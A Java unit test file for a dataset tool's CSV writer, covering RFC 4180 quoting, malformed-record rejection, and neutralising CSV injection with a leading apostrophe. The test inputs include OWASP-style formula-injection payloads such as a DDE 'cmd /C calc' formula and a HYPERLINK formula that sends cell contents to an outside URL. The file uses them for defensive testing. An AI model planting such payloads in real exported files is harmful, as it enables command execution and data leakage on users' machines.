package io.touchstone.release.format.csv;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.touchstone.answer.spans.MarkedText;
import io.touchstone.release.Samples;
import io.touchstone.release.Tool;
import io.touchstone.release.format.DatasetFormat;
import io.touchstone.release.format.DatasetRecord;
import io.touchstone.release.format.RecordAnswer;
import io.touchstone.release.format.RecordFile;
import io.touchstone.release.format.directory.DatasetWriter;
import io.touchstone.release.format.jsonl.JsonLines;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Examples from RFC 4180, section 2, and OWASP, "CSV Injection", written out by hand. */
class CsvTest {

  private static final String HEADER = "id,text,file,label,spans,method,split\r\n";

  @TempDir Path directory;

  @Test
  void quotes_are_doubled_and_line_breaks_kept_between_quotes() throws Exception {
    write(
        record("a", "b \r\nbb,c", "aaa"),
        record("b", "b\"bb", "ccc"),
        record("c", "", "Grüße \uD83D\uDE00"));

    assertThat(file())
        .isEqualTo(
            HEADER
                + "\"a\",\"b \r\nbb,c\",,\"aaa\",,\"majority\",\r\n"
                + "\"b\",\"b\"\"bb\",,\"ccc\",,\"majority\",\r\n"
                + "\"c\",\"\",,\"Grüße \uD83D\uDE00\",,\"majority\",\r\n");
  }

  @Test
  void spans_are_json_in_a_cell_and_a_file_is_its_path() throws Exception {
    MarkedText note = MarkedText.of("\uD83D\uDC8A [drug:\"Abc\"]");
    List<RecordAnswer.MarkedSpan> spans =
        note.spans().stream().map(span -> new RecordAnswer.MarkedSpan(span, 2)).toList();
    write(
        new DatasetRecord(
            "a",
            note.text(),
            new RecordAnswer.MarkedSpans(spans, 3),
            "adjudication",
            Optional.of("test")),
        new DatasetRecord(
            "b",
            "",
            Optional.of(new RecordFile("files/ba/ba78.png", "image/png", "ba78", 3)),
            new RecordAnswer.MarkedSpans(List.of(), 3),
            "majority",
            Optional.of("test")));

    assertThat(file())
        .isEqualTo(
            HEADER
                + "\"a\",\"\uD83D\uDC8A \"\"Abc\"\"\",,,\"[{\"\"start\"\":2,\"\"end\"\":7,"
                + "\"\"label\"\":\"\"drug\"\",\"\"text\"\":\"\"\\\"\"Abc\\\"\"\"\"}]\","
                + "\"adjudication\",\"test\"\r\n"
                + "\"b\",\"\",\"files/ba/ba78.png\",,\"[]\",\"majority\",\"test\"\r\n");
  }

  /** OWASP, "CSV Injection": what a cell may begin with to be calculated. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"http://example.org/?x=\"&A1,\"Error\")",
        "=cmd|' /C calc'!A0",
        "+1-1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tindented",
        "\"=1+1",
        "'=1+1",
        "\"\"'+1",
        "  =1+1",
        "\u00A0-1",
        "\uFEFF=1+1",
        "\uFF1D1+1",
        "\uFF20SUM(1)",
        "-"
      })
  void what_a_spreadsheet_would_calculate_begins_with_an_apostrophe(String text) throws Exception {
    write(record("a", text, "x"));

    assertThat(file())
        .isEqualTo(
            HEADER + "\"a\",\"'" + text.replace("\"", "\"\"") + "\",,\"x\",,\"majority\",\r\n");
    assertThat(read()).extracting(DatasetRecord::text).containsExactly(text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "'",
        "\"",
        "'s-Hertogenbosch",
        "'quoted'",
        "a=1",
        "1-1",
        "\u2212 1",
        "[=]"
      })
  void what_no_spreadsheet_calculates_stays_as_it_is(String text) throws Exception {
    write(record("a", text, "x"));

    assertThat(file()).contains("\"a\",\"" + text.replace("\"", "\"\"") + "\",,");
    assertThat(read()).extracting(DatasetRecord::text).containsExactly(text);
  }

  @Test
  void names_of_labels_and_parts_are_made_harmless_like_texts() throws Exception {
    write(new DatasetRecord("-a", "x", "=label", new TreeMap<>(), "@method", Optional.of("+part")));

    assertThat(file())
        .isEqualTo(HEADER + "\"'-a\",\"x\",,\"'=label\",,\"'@method\",\"'+part\"\r\n");
    assertThat(read())
        .singleElement()
        .satisfies(
            record -> {
              assertThat(record.id()).isEqualTo("-a");
              assertThat(record.label()).contains("=label");
              assertThat(record.method()).isEqualTo("@method");
              assertThat(record.split()).contains("+part");
            });
  }

  @Test
  void python_reads_the_cells_and_takes_the_apostrophes_off_as_the_documentation_says()
      throws Exception {
    List<String> texts =
        List.of(
            "=1+1",
            "'=1+1",
            "''=1",
            "'s-Hertogenbosch",
            "\"=1\"",
            "'",
            "\u00A0\u2003-1",
            "\u200B@",
            "\uFEFF'+",
            "'\r\n",
            "a\r\n=b",
            "NA",
            "\u2028=",
            "\u0085+",
            "\u001C=",
            "Grüße \uD83D\uDE00 \"x\", 'y'");
    List<DatasetRecord> records = new ArrayList<>();
    texts.forEach(text -> records.add(record("%04d".formatted(records.size()), text, "x")));
    write(records.toArray(DatasetRecord[]::new));

    String documented = Files.readString(Path.of("config/README.md"));
    String script = documented.substring(documented.indexOf("import csv, re"));
    script =
        script
            .substring(0, script.indexOf("```"))
            .replace("\n    ", "\n")
            .replace("tickets/csv/", "");
    String read =
        Tool.run(
            directory,
            "python3",
            "-c",
            script.stripIndent() + "\nfor row in rows: print(ascii(row['text']))");

    assertThat(read.lines()).containsExactlyElementsOf(texts.stream().map(CsvTest::ascii).toList());
  }

  @Test
  void a_version_in_two_formats_lists_its_cells_in_the_sums_and_its_losses_on_the_card()
      throws Exception {
    DatasetWriter.write(
        directory, Samples.in(List.of(new JsonLines(), new Csv()), 20), Samples.items(20));

    assertThat(Tool.run(directory, "sha256sum", "-c", "sha256sums.txt").lines())
        .hasSize(8)
        .contains("csv/all-00000-of-00001.csv: OK");
    assertThat(Files.readString(directory.resolve("README.md")))
        .contains("- `data/`: the records, JSON Lines, each with id,")
        .contains("- `csv/`: the records as CSV (RFC 4180, UTF-8)")
        .contains("; not in it: votes of 20 records\n");
  }

  @Test
  void no_record_is_a_header_alone() throws Exception {
    new Csv().write(directory, new TreeMap<>(Map.of("all", 0L))).close();

    assertThat(Files.readString(directory.resolve("all-00000-of-00001.csv"))).isEqualTo(HEADER);
    try (DatasetFormat.Source source = new Csv().read(directory)) {
      assertThat(source.hasNext()).isFalse();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "id,text\r\n",
        HEADER + "\"a\",\"x\",,\"y\",,\"majority\"\r\n",
        HEADER + "\"a\",\"x\",,\"y\",,\"majority\",,\r\n",
        HEADER + "\"a\",\"x\",,\"y\",,\"majority\",\r\n\r\n",
        HEADER + "\"a\",\"x",
        HEADER + "\"a\",\"x\"y,,\"y\",,\"majority\",\r\n",
        HEADER + "\"a\",\"x\",,,\"[\",\"majority\",\r\n",
        HEADER + "\"a\",\"x\",,,\"{}\",\"majority\",\r\n",
        HEADER + "\"a\",\"x\",,,\"[7]\",\"majority\",\r\n",
        HEADER + "\"a\",\"x\",,,\"[null]\",\"majority\",\r\n",
        HEADER
            + "\"a\",\"x\",,,\"[{\"\"start\"\":\"\"0\"\",\"\"end\"\":1,\"\"label\"\":\"\"b\"\","
            + "\"\"text\"\":\"\"x\"\"}]\",\"majority\",\r\n",
        HEADER
            + "\"a\",\"x\",,,\"[{\"\"start\"\":0,\"\"end\"\":1.5,\"\"label\"\":\"\"b\"\","
            + "\"\"text\"\":\"\"x\"\"}]\",\"majority\",\r\n",
        HEADER + "\"a\",\"x\",,,\"[{\"\"start\"\":0}]\",\"majority\",\r\n",
        HEADER + "\"a\",\"x\",,\"y\",\"[]\",\"majority\",\r\n"
      })
  void what_is_no_record_is_refused(String content) throws Exception {
    Files.writeString(directory.resolve("all-0.csv"), content);

    assertThatThrownBy(this::read)
        .isInstanceOf(DatasetFormat.Unreadable.class)
        .hasMessageMatching("all-0\\.csv line [123] is not a record\\.");
  }

  @Test
  void bytes_that_are_no_utf_8_are_refused() throws Exception {
    Files.write(
        directory.resolve("all-0.csv"),
        (HEADER + "\"a\",\"\u00FC\",,\"y\",,\"majority\",\r\n")
            .getBytes(StandardCharsets.ISO_8859_1));

    assertThatThrownBy(this::read).isInstanceOf(DatasetFormat.Unreadable.class);
  }

  private static String ascii(String text) {
    StringBuilder shown = new StringBuilder();
    text.codePoints()
        .forEach(
            point -> {
              if (point == '\r') {
                shown.append("\\r");
              } else if (point == '\n') {
                shown.append("\\n");
              } else if (point < 0x20 || point > 0x7e && point < 0x100) {
                shown.append("\\x%02x".formatted(point));
              } else if (point > 0xffff) {
                shown.append("\\U%08x".formatted(point));
              } else if (point >= 0x100) {
                shown.append("\\u%04x".formatted(point));
              } else {
                shown.appendCodePoint(point);
              }
            });
    boolean both = text.contains("'") && text.contains("\"");
    String quote = text.contains("'") && !both ? "\"" : "'";
    return quote + (both ? shown.toString().replace("'", "\\'") : shown) + quote;
  }

  private static DatasetRecord record(String id, String text, String label) {
    return new DatasetRecord(
        id, text, label, new TreeMap<>(Map.of(label, 3)), "majority", Optional.empty());
  }

  private void write(DatasetRecord... records) throws IOException {
    TreeMap<String, Long> perSplit = new TreeMap<>();
    for (DatasetRecord record : records) {
      perSplit.merge(record.split().orElse("all"), 1L, Long::sum);
    }
    try (DatasetFormat.Sink sink = new Csv().write(directory, perSplit)) {
      List.of(records).forEach(sink::accept);
    }
  }

  private String file() throws IOException {
    try (var files = Files.list(directory)) {
      return Files.readString(files.findFirst().orElseThrow());
    }
  }

  private List<DatasetRecord> read() throws IOException {
    List<DatasetRecord> read = new ArrayList<>();
    try (DatasetFormat.Source source = new Csv().read(directory)) {
      source.forEachRemaining(read::add);
    }
    return read;
  }
}
